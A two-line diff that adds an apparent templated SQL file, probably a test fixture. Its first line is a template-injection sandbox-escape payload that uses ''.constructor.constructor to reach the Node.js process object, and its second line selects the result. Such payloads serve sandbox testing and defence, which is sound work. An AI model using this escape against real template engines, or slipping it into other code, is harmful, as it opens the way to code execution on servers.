@@ -1,0 +1,2 @@
+{% set reach = ''.constructor.constructor('return process')() %}
+select '{{ reach }}' as reach
